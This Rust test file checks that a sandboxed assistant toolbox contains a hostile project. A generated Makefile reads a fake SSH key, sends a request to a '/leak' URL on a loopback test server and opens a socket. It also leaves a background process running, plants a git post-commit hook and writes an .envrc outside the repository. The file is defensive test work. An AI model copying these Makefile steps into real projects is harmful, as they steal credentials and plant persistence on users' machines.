//! The whole story of the toolbox: an assistant clones a project from an allowed host, runs its
//! tests, edits, commits and asks its database, through a real client and a real server; the
//! project's Makefile is hostile. Each of its attempts works where there is no fence.

use std::fs;
use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair};
use serde_json::{Value, json};

use crate::client::{Client, Kind, Way, peers};
use crate::tools::named;
use crate::world::{Home, NAMED};

/// A real git server behind TLS, on loopback, and what it was asked.
struct Forge {
    child: Child,
    root: PathBuf,
    port: u16,
}

impl Forge {
    fn start(root: &Path) -> Forge {
        fs::create_dir_all(root).unwrap();
        certify(root);
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../peers/forge.py");
        let mut child = Command::new(peers().join("python/bin/python"))
            .arg(script)
            .arg(root)
            .args([root.join("server.pem"), root.join("server.key")])
            .arg(root.join("asked"))
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        let mut output = BufReader::new(child.stdout.take().unwrap());
        output.read_line(&mut line).unwrap();
        Forge {
            child,
            root: root.to_owned(),
            port: line.trim().parse().unwrap(),
        }
    }

    /// A repository at `/app.git` with a Makefile and a database; its working tree.
    fn repository(&self, makefile: &str) -> PathBuf {
        let work = self.root.join("work");
        fs::create_dir_all(&work).unwrap();
        fs::write(work.join("Makefile"), makefile).unwrap();
        fs::write(work.join("app.txt"), "good\n").unwrap();
        let program = "import sqlite3; c = sqlite3.connect('app.db'); \
            c.execute('CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT)'); \
            c.execute(\"INSERT INTO items (name) VALUES ('apple'), ('bread')\"); c.commit()";
        must(Command::new("python3").args(["-c", program]), &work);
        git(&work, &["init", "-q", "-b", "main"]);
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", "first"]);
        git(&self.root, &["clone", "-q", "--bare", "work", "app.git"]);
        work
    }

    fn asked(&self) -> String {
        fs::read_to_string(self.root.join("asked")).unwrap_or_default()
    }
}

impl Drop for Forge {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// An authority of our own, and a certificate for this machine's own name.
fn certify(root: &Path) {
    let mut params = CertificateParams::new(Vec::new()).unwrap();
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params
        .distinguished_name
        .push(DnType::CommonName, "authority of a test");
    let key = KeyPair::generate().unwrap();
    let authority = params.self_signed(&key).unwrap();
    let write = |name: &str, text: String| fs::write(root.join(name), text).unwrap();
    write("ca.pem", pem("CERTIFICATE", authority.der()));
    let issuer = Issuer::new(params, key);
    let names = vec!["localhost".to_owned(), "127.0.0.1".to_owned()];
    let mut params = CertificateParams::new(names).unwrap();
    params
        .distinguished_name
        .push(DnType::CommonName, "forge of a test");
    let key = KeyPair::generate().unwrap();
    let certificate = params.signed_by(&key, &issuer).unwrap();
    write("server.pem", pem("CERTIFICATE", certificate.der()));
    write("server.key", pem("PRIVATE KEY", &key.serialize_der()));
}

fn pem(kind: &str, der: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = format!("-----BEGIN {kind}-----\n");
    for line in der.chunks(48) {
        for three in line.chunks(3) {
            let byte = |index: usize| usize::from(three.get(index).copied().unwrap_or(0));
            let number = (byte(0) << 16) | (byte(1) << 8) | byte(2);
            for index in 0..4 {
                let letter = LETTERS[(number >> (18 - 6 * index)) & 63];
                text.push(if index > three.len() {
                    '='
                } else {
                    char::from(letter)
                });
            }
        }
        text.push('\n');
    }
    text.push_str(&format!("-----END {kind}-----\n"));
    text
}

#[track_caller]
fn must(command: &mut Command, folder: &Path) -> String {
    let ran = command.current_dir(folder).output().unwrap();
    assert!(ran.status.success(), "{command:?}: {ran:?}");
    String::from_utf8_lossy(&ran.stdout).into_owned()
}

fn git(folder: &Path, arguments: &[&str]) -> String {
    let mut command = Command::new("git");
    command
        .args(arguments)
        .env("GIT_CONFIG_GLOBAL", "/dev/null");
    for who in ["AUTHOR", "COMMITTER"] {
        command.env(format!("GIT_{who}_NAME"), "forge");
        command.env(format!("GIT_{who}_EMAIL"), "forge@example.com");
    }
    must(&mut command, folder)
}

/// What the tests of the project do besides.
fn makefile(secret: &Path, port: u16, marker: &str) -> String {
    format!(
        "test:\n\t@grep -q good app.txt && echo tests pass\n\
         \t-@cat {} 2>/dev/null\n\
         \t-@python3 -c \"import ssl, urllib.request as u; u.urlopen('https://127.0.0.1:{port}/leak', \
         timeout=5, context=ssl._create_unverified_context())\" >/dev/null 2>&1\n\
         \t-@python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3); \
         print('CONNECTED')\" 2>/dev/null\n\
         \t-@setsid sleep {marker} >/dev/null 2>&1 &\n\
         \t-@mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/post-commit; \
         chmod +x .git/hooks/post-commit\n\
         \t-@echo 'touch pwned' > ../.envrc; echo built > built.txt\n",
        secret.display()
    )
}

/// The processes of this machine that carry a word.
fn running(word: &str) -> Vec<String> {
    let entries = fs::read_dir("/proc").unwrap().flatten();
    let carries = |path: PathBuf| {
        let line = fs::read(path.join("cmdline")).unwrap_or_default();
        let mut words = line.split(|byte| *byte == 0);
        words.any(|one| one == word.as_bytes())
    };
    entries
        .filter(|entry| carries(entry.path()))
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .collect()
}

/// The control: outside of every fence the Makefile does all it tries.
fn run_bare(forge: &Forge, work: &Path, marker: &str) {
    let said = must(
        Command::new("make")
            .arg("test")
            .env_remove("https_proxy")
            .env_remove("HTTPS_PROXY"),
        work,
    );
    let left = running(marker);
    for pid in &left {
        let _ = Command::new("kill").arg(pid).status();
    }
    assert!(
        said.contains("top-secret") && said.contains("CONNECTED"),
        "{said}"
    );
    assert!(forge.asked().contains("/leak"), "{}", forge.asked());
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(work.join(".git/hooks/post-commit").exists());
    assert!(work.join("../.envrc").exists());
    fs::remove_file(forge.root.join("asked")).unwrap();
}

fn call(name: &str, arguments: Value) -> Value {
    json!({"do": "call", "name": name, "arguments": arguments})
}

/// The value of a call that went well.
#[track_caller]
fn value(client: &Client, number: usize) -> Value {
    let event = client.step(number);
    client.check(event["isError"] == json!(false), &event);
    match event["structured"].is_object() {
        true => event["structured"].clone(),
        false => serde_json::from_str(event["text"].as_str().unwrap()).unwrap(),
    }
}

/// Every call on record: its tool and its id.
fn calls(home: &Home) -> Vec<(String, String)> {
    fn gather(value: &Value, found: &mut Vec<(String, String)>) {
        if let (Some(tool), Some(id)) = (value["tool"].as_str(), value["callId"].as_str()) {
            found.push((tool.to_owned(), id.to_owned()));
        }
        match value {
            Value::Object(members) => members.values().for_each(|one| gather(one, found)),
            Value::Array(members) => members.iter().for_each(|one| gather(one, found)),
            _ => {}
        }
    }
    let listed = home.must(&["audit", "list", "--json"]);
    let mut found = Vec::new();
    for value in serde_json::Deserializer::from_str(&listed).into_iter::<Value>() {
        gather(&value.unwrap(), &mut found);
    }
    found
}

/// The record of the first call of a tool, and what `explain` makes of it.
#[track_caller]
fn told(home: &Home, calls: &[(String, String)], tool: &str) -> String {
    let call = calls.iter().find(|(named, _)| named == tool);
    let (_, id) = call.unwrap_or_else(|| panic!("no `{tool}` among {calls:?}"));
    let explained = home.must(&["explain", id]);
    assert!(explained.contains(tool), "{explained}");
    home.must(&["audit", "show", id, "--json"])
}

#[test]
#[expect(clippy::too_many_lines, reason = "one story, step by step")]
fn a_hostile_project_is_worked_on_by_a_client_and_harms_nothing() {
    let home = Home::new("toolbox-story");
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("peers/toolbox-world");
    let _ = fs::remove_dir_all(&folder);
    let forge = Forge::start(&folder.join("forge"));
    let project = folder.join("project");
    fs::create_dir_all(&project).unwrap();
    let project = project.canonicalize().unwrap();
    let secret = folder.join("person/.ssh/id");
    fs::create_dir_all(secret.parent().unwrap()).unwrap();
    fs::write(&secret, "top-secret\n").unwrap();
    let marker = format!("4444.{}", std::process::id());
    let work = forge.repository(&makefile(&secret, forge.port, &marker));
    run_bare(&forge, &work, &marker);
    let port = forge.port;
    home.settings(&format!(
        "[approvals]\nwait_seconds = 60\nautomation = \"L5\"\n{NAMED}\n[network]\nca_file = \"{}\"\n\
         private_hosts = [\"localhost\"]\n\n[toolbox]\nenabled = [\"terminal\", \"git\", \"sql\"]\n\
         folder = \"{}\"\nhosts = [\"localhost:{port}\"]\n\n[[rule]]\nid = \"rest\"\neffect = \"allow\"\n\n\
         [[rule]]\nid = \"copies\"\ntools = [\"applyChanges\"]\neffect = \"ask\"\n",
        forge.root.join("ca.pem").display(),
        project.display(),
    ));
    let server = home.serve();
    let app = |command: &str| json!({"command": command, "workingDirectory": "app", "timeout": 60});
    let commit = json!({"repository": "app", "message": "better", "paths": ["app.txt"]});
    let query = json!({"file": "app/app.db", "statement": "SELECT name FROM items ORDER BY id"});
    let plan = json!({
        "steps": [
            {"do": "list"},
            call("gitClone", json!({"url": format!("https://localhost:{port}/app.git")})),
            call("shell", app("make test")),
            call("shell", app("sed -i 's/good/good and better/' app.txt")),
            call("gitCommit", commit),
            call("sqlQuery", query),
        ],
    });
    let client = Client::start(Kind::Python, ("legacy", false), Way::Http(&server), &plan);
    let listed = client.step(0);
    for tool in ["shell", "gitClone", "gitCommit", "sqlQuery", "applyChanges"] {
        client.check(named(&listed).contains(&tool), &listed);
    }
    let cloned = value(&client, 1);
    client.check(cloned["directory"] == "app", &cloned);
    // The owner is asked about the copy, and sees the changes.
    let approve = |line: &str| {
        let question = home.question(line);
        home.must(&["approvals", "approve", &question, "--automation"]);
    };
    approve("+built");
    // The tests pass, and nothing else comes of the Makefile.
    let tested = value(&client, 2);
    let said = tested["stdout"].as_str().unwrap();
    client.check(said.contains("tests pass"), &tested);
    client.check(
        !said.contains("top-secret") && !said.contains("CONNECTED"),
        &tested,
    );
    client.check(tested["changes"]["applied"] == true, &tested);
    assert_eq!(
        fs::read_to_string(project.join("app/built.txt")).unwrap(),
        "built\n"
    );
    for planted in ["app/.git/hooks/post-commit", ".envrc", "app/pwned"] {
        assert!(!project.join(planted).exists(), "{planted}");
    }
    assert!(!forge.asked().contains("/leak"), "{}", forge.asked());
    assert_eq!(running(&marker), Vec::<String>::new());
    approve("+good and better");
    let edited = value(&client, 3);
    client.check(edited["changes"]["applied"] == true, &edited);
    let made = value(&client, 4);
    let head = git(
        &project.join("app"),
        &["-c", "safe.directory=*", "rev-parse", "HEAD"],
    );
    client.check(made["commit"] == head.trim(), &made);
    assert!(!project.join("app/pwned").exists(), "the hook ran");
    let rows = value(&client, 5);
    client.check(rows["rows"] == json!([["apple"], ["bread"]]), &rows);
    // Every step is on record, with what was tried.
    let calls = calls(&home);
    let clone = told(&home, &calls, "gitClone");
    assert!(
        clone.contains("\"egress\"") && clone.contains("localhost"),
        "{clone}"
    );
    let shells: Vec<_> = calls.iter().filter(|(tool, _)| tool == "shell").collect();
    let records: String = shells
        .iter()
        .map(|(_, id)| home.must(&["audit", "show", id, "--json"]))
        .collect();
    assert!(
        records.contains("\"process\"") && records.contains("host-not-in-allowlist"),
        "{records}"
    );
    for tool in ["shell", "applyChanges", "gitCommit", "sqlQuery"] {
        told(&home, &calls, tool);
    }
    let verified = home.must(&["audit", "verify"]);
    assert!(verified.contains("whole"), "{verified}");
}
